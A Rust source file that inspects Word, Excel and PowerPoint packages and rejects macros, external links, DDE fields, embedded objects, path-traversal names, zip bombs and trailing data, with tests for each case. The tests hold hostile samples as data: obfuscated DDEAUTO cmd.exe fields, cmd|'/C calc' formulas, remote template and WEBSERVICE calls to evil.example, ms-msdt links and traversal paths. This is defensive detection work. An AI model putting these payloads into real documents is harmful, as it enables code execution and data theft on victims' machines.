//! Documents of Word, Excel and PowerPoint: packages of parts (ISO/IEC 29500-2), each of which is
//! looked at. What the archive says of itself is not believed.

mod parts;

use std::collections::HashSet;
use std::io::{Cursor, Read as _};

use madoguchi_core::article::FileKind;
use zip::ZipArchive;

use self::parts::{Part, main_kind};
use super::active;
use super::bytes::u16_le;
use super::fault::FileFault::{
    self, Broken, Embedded, Encrypted, Script, TrailingData, Unfolds, Unknown,
};

/// All parts together unfold to no more.
const UNFOLDED: u64 = 64 * 1024 * 1024;
const PARTS: usize = 5_000;
/// A chart holds its table as a package of its own.
const DEPTH: u32 = 2;
/// The record at the end of an archive without comment (APPNOTE.TXT, 4.3.16).
const END_BYTES: usize = 22;
const LOCAL_HEADER_BYTES: usize = 30;

pub(super) fn inspect(content: &[u8]) -> Result<FileKind, FileFault> {
    if active::in_container(content) {
        return Err(Script);
    }
    package(content, &mut { UNFOLDED }, DEPTH)
}

fn package(content: &[u8], left: &mut u64, depth: u32) -> Result<FileKind, FileFault> {
    let end = content.len().checked_sub(END_BYTES).ok_or(Broken)?;
    if !content
        .get(end..)
        .is_some_and(|end| end.starts_with(b"PK\x05\x06"))
    {
        return Err(TrailingData);
    }
    let mut archive = ZipArchive::new(Cursor::new(content)).map_err(|_| Broken)?;
    if archive.offset() != 0 {
        return Err(TrailingData);
    }
    // Two parts of one name: whoever opens it may take the other one.
    if archive.len() > PARTS || u16_le(content, end + 10) != Some(archive.len()) {
        return Err(Broken);
    }
    let (mut names, mut kind) = (HashSet::new(), None);
    for index in 0..archive.len() {
        let raw = archive.by_index_raw(index).map_err(|_| Broken)?;
        if raw.encrypted() {
            return Err(Encrypted);
        }
        let name = raw.name().map_err(|_| Broken)?.into_owned();
        if !is_plain(&name) || raw.is_symlink() || !names.insert(name.to_lowercase()) {
            return Err(Broken);
        }
        if local_name(content, raw.header_start()) != Some(raw.name_raw()) {
            return Err(Broken);
        }
        drop(raw);
        if name.ends_with('/') {
            continue;
        }
        let part = archive.by_index(index).map_err(|_| Broken)?;
        let mut bytes = Vec::new();
        let read = part
            .take(*left)
            .read_to_end(&mut bytes)
            .map_err(|_| Broken)?;
        *left -= read as u64;
        if *left == 0 {
            return Err(Unfolds);
        }
        let part = Part::new(&name, &bytes);
        part.inspect()?;
        if part.is_content_types() {
            kind = main_kind(&bytes)?;
        }
        if bytes.starts_with(b"PK\x03\x04") {
            let depth = depth.checked_sub(1).ok_or(Embedded)?;
            package(&bytes, left, depth)?;
        }
    }
    kind.ok_or(Unknown)
}

/// Whether a name leads nowhere but into its package.
fn is_plain(name: &str) -> bool {
    let odd = name
        .chars()
        .any(|letter| letter.is_control() || "\\:".contains(letter));
    let steps = name.trim_end_matches('/').split('/');
    let mut steps = steps.map(|step| {
        let whole = step.trim_start().trim_end_matches(['.', ' ']) == step;
        whole && !step.is_empty()
    });
    !odd && name.is_ascii() && steps.all(|plain| plain)
}

/// The name in front of a part, which must be that of the list at the end.
fn local_name(content: &[u8], start: u64) -> Option<&[u8]> {
    let start = usize::try_from(start).ok()?;
    let length = u16_le(content, start.checked_add(26)?)?;
    content.get(start + LOCAL_HEADER_BYTES..start + LOCAL_HEADER_BYTES + length)
}

#[cfg(test)]
mod tests {
    use super::super::fault::FileFault::{External, Macro};
    use super::super::samples::{self, Entry};
    use super::*;

    fn fault(entries: &[Entry<'_>]) -> Option<FileFault> {
        inspect(&samples::docx(entries)).err()
    }

    #[test]
    fn documents_of_office_are_taken() {
        assert_eq!(inspect(&samples::docx(&[])), Ok(FileKind::Docx));
        let image = samples::png();
        let link = relationships("hyperlink", "https://www.city.example.jp/", true);
        let chart = samples::docx(&[]);
        let entries = [
            ("word/media/image1.png", &image[..]),
            ("word/_rels/document.xml.rels", link.as_bytes()),
            ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", &chart),
            (
                "docProps/app.xml",
                b"<Properties><Company>javascript: 100</Company></Properties>",
            ),
            ("xl/printerSettings/printerSettings1.bin", b"\x01\x02"),
        ];
        assert_eq!(fault(&entries), None);
    }

    fn relationships(kind: &str, target: &str, external: bool) -> String {
        let mode = if external {
            " TargetMode=\"External\""
        } else {
            ""
        };
        format!(
            "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
             <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
             Target=\"{target}\"{mode}/></Relationships>"
        )
    }

    #[test]
    fn macros_are_found_in_any_letter_case_and_under_any_name() {
        for name in [
            "word/vbaProject.bin",
            "word/VBAPROJECT.BIN",
            "word/vBaPrOjEcT.bin",
            "word/vbaData.xml",
            "xl/macrosheets/sheet1.xml",
            "word/activeX/activeX1.xml",
            "customUI/customUI14.xml",
            "word/media/run.exe",
            "word/media/run.js",
        ] {
            assert_eq!(fault(&[(name, b"x")]), Some(Macro), "{name}");
        }
        let kind = relationships("vbaProject", "tame.bin", false);
        let rels = ("word/_rels/document.xml.rels", kind.as_bytes());
        assert_eq!(fault(&[rels]), Some(Macro));
        let types = "<Types><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.VbaProject\"/></Types>";
        let file = samples::package(&[("[Content_Types].xml", types.as_bytes())]);
        assert_eq!(inspect(&file), Err(Macro));
        let types =
            samples::content_types("application/vnd.ms-word.document.macroEnabled.main+xml");
        let file = samples::package(&[("[Content_Types].xml", types.as_bytes())]);
        assert_eq!(inspect(&file), Err(Macro));
        assert_eq!(
            fault(&[("word/media/image1.png", b"MZ\x90\0")]),
            Some(Macro)
        );
    }

    #[test]
    fn nothing_is_fetched_from_elsewhere() {
        for (kind, target, external) in [
            ("attachedTemplate", "https://evil.example/t.dotm", true),
            ("attachedTemplate", "file:///t.dotx", true),
            ("image", "https://evil.example/pixel.png", true),
            ("externalLinkPath", "file:///C:/book.xlsx", true),
            ("frame", "https://evil.example/", true),
            ("subDocument", "sub.docx", true),
            ("hyperlink", "file://evil.example/share", true),
            ("hyperlink", "\\\\evil.example\\share", true),
            ("hyperlink", "JavaScript:alert(1)", true),
            ("hyperlink", "ms-msdt:/id", true),
            ("image", "https://evil.example/pixel.png", false),
            ("externalLink", "externalLinks/externalLink1.xml", false),
        ] {
            let rels = relationships(kind, target, external);
            let found = fault(&[("word/_rels/document.xml.rels", rels.as_bytes())]);
            assert_eq!(found, Some(External), "{kind} {target}");
        }
        let fields = [
            "<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>",
            "<w:p><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText></w:p>",
            "<w:p><w:fldSimple w:instr=\" includetext &quot;\\\\evil&quot;\"/></w:p>",
        ];
        for field in fields {
            let found = fault(&[("word/footer1.xml", field.as_bytes())]);
            assert_eq!(found, Some(External), "{field}");
        }
    }

    #[test]
    fn a_field_is_read_as_word_reads_it() {
        let field = |code: &str| format!("<w:p><w:instrText>{code}</w:instrText></w:p>");
        let char = |kind: &str| format!("<w:fldChar w:fldCharType=\"{kind}\"/>");
        let (begin, end) = (char("begin"), char("end"));
        let mut fields: Vec<_> = [
            "<![CDATA[DDEAUTO c:\\\\cmd.exe]]>",
            "D<![CDATA[DE]]>AUTO c:\\\\cmd.exe",
            "&#68;DEAUTO c:\\\\cmd.exe",
            "&#x44;&#x44;E c:\\\\cmd.exe",
            "DD<!-- -->E cmd",
            "D<w:x/>DE cmd",
            "D<w:x>D</w:x>E cmd",
            "&quot;DDE&quot; cmd",
            "INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d",
            "IncludePicture http://evil.example/a.png",
            "DATABASE \\d x",
        ]
        .into_iter()
        .map(field)
        .collect();
        fields.push("<w:p><w:delInstrText>DDE cmd</w:delInstrText></w:p>".to_owned());
        for code in ["INCLUDE \\\\evil\\x", "RD \\\\evil\\x", "PRINT 27"] {
            fields.push(format!("<w:p>{begin}{}{end}</w:p>", field(code)));
        }
        let quote = format!("{begin}{}{end}", field("QUOTE 68 68 69"));
        fields.push(format!("<w:p>{begin}{quote}{}{end}</w:p>", field(" cmd")));
        fields.push(format!("<w:p>{begin}{}{quote}{end}</w:p>", field(" DD")));
        for field in fields {
            let found = fault(&[("word/footer1.xml", field.as_bytes())]);
            assert_eq!(found, Some(External), "{field}");
        }
        let plain = [
            format!("<w:p>{begin}{}{end}</w:p>", field(" PAGE ")),
            format!("<w:p>{begin}{}{quote}{end}</w:p>", field(" IF ")),
            format!(
                "<w:p>{begin}{}{end}</w:p>",
                field("HYPERLINK \"x\" \\o \"print &amp; include\"")
            ),
            "<w:p><w:t>DDEAUTO</w:t></w:p>".to_owned(),
        ];
        for field in plain {
            let found = fault(&[("word/footer1.xml", field.as_bytes())]);
            assert_eq!(found, None, "{field}");
        }
    }

    #[test]
    fn a_cell_starts_and_fetches_nothing() {
        for formula in [
            "<f>cmd|'/C calc'!A0</f>",
            "<f>1+<![CDATA[cmd|]]>'/C calc'!A0</f>",
            "<f>_xlfn.WEBSERVICE(\"http://evil.example\")</f>",
            "<f>RTD (\"x\",,\"y\")</f>",
            "<definedName name=\"a\">cmd&#124;'/C calc'!A0</definedName>",
        ] {
            let sheet = format!("<worksheet><c>{formula}</c></worksheet>");
            let found = fault(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]);
            assert_eq!(found, Some(External), "{formula}");
        }
        for formula in [
            "<f>A1&amp;\"|!\"&amp;'Sheet 1'!B1</f>",
            "<v>a|b!</v>",
            "<f>RECALL(1)</f>",
        ] {
            let sheet = format!("<worksheet><c>{formula}</c></worksheet>");
            let found = fault(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]);
            assert_eq!(found, None, "{formula}");
        }
        let action = b"<a:hlinkClick action=\"ppaction://program\"/>";
        assert_eq!(fault(&[("ppt/slides/slide1.xml", action)]), Some(Macro));
    }

    #[test]
    fn what_readers_may_read_otherwise_is_broken() {
        for (name, part) in [
            (
                "word/a.xml",
                "<?xml version=\"1.0\" encoding=\"utf-7\"?><w:p>+AEQ-</w:p>",
            ),
            (
                "word/a.xml",
                "<w:fldSimple x:instr=\"PAGE\" w:instr=\"DDE cmd\"/>",
            ),
            (
                "word/_rels/document.xml.rels",
                "<Relationships><Relationship x:Target=\"a.xml\" Target=\"http://evil.example\"/></Relationships>",
            ),
        ] {
            assert_eq!(fault(&[(name, part.as_bytes())]), Some(Broken), "{part}");
        }
    }

    #[test]
    fn embedded_objects_are_refused() {
        let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
        for entry in [
            ("word/embeddings/oleObject1.bin", &ole[..]),
            ("word/media/image1.png", ole),
            ("word/media/image1.emf", b"{\\rtf1"),
            ("word/afchunk.rtf", b"x"),
            ("word/media/page.html", b"x"),
            (
                "word/document2.xml",
                b"<w:p><o:OLEObject Type=\"Embed\"/></w:p>",
            ),
        ] {
            assert_eq!(fault(&[entry]), Some(Embedded), "{}", entry.0);
        }
        let inner = samples::docx(&[("word/vbaProject.bin", b"x")]);
        let embedded = ("word/embeddings/a.docx", &inner[..]);
        assert_eq!(fault(&[embedded]), Some(Macro), "looked into");
        let once = samples::docx(&[("word/embeddings/a.docx", &samples::docx(&[]))]);
        let twice = samples::docx(&[("word/embeddings/a.docx", &once)]);
        let embedded = ("word/embeddings/a.docx", &twice[..]);
        assert_eq!(fault(&[embedded]), Some(Embedded), "too deep");
    }

    #[test]
    fn names_stay_within_the_package() {
        for name in [
            "../evil.xml",
            "word/../../evil.xml",
            "/etc/evil.xml",
            "word\\evil.xml",
            "C:/evil.xml",
            "word/.. /evil.xml",
            "word//evil.xml",
            "word/ev\nil.xml",
        ] {
            assert_eq!(fault(&[(name, b"<x/>")]), Some(Broken), "{name}");
        }
        let twice = [("word/a.xml", &b"<x/>"[..]), ("word/A.XML", b"<x/>")];
        assert_eq!(fault(&twice), Some(Broken));
    }

    #[test]
    fn what_unfolds_to_the_memory_is_refused() {
        let zeros = vec![b' '; 3_000];
        let entries = [
            ("xl/printerSettings/a.bin", &zeros[..]),
            ("xl/printerSettings/b.bin", &zeros),
        ];
        let file = samples::docx(&entries);
        assert_eq!(package(&file, &mut 6_000, DEPTH), Err(Unfolds));
        assert!(package(&file, &mut 60_000, DEPTH).is_ok());
        let bomb = b"<!DOCTYPE x [<!ENTITY a \"aa\">]><x>&a;</x>";
        assert_eq!(fault(&[("word/a.xml", bomb)]), Some(Broken));
    }

    #[test]
    fn nothing_stands_around_the_package() {
        let file = samples::docx(&[]);
        let after = [&file[..], b"MZ"].concat();
        assert_eq!(inspect(&after), Err(TrailingData));
        let other_name = {
            let mut file = file.clone();
            // The first local header names another part than the list at the end.
            file[LOCAL_HEADER_BYTES + 1] = b'X';
            file
        };
        assert_eq!(inspect(&other_name), Err(Broken));
        assert_eq!(inspect(b"PK\x03\x04 a.exe"), Err(Broken));
    }
}
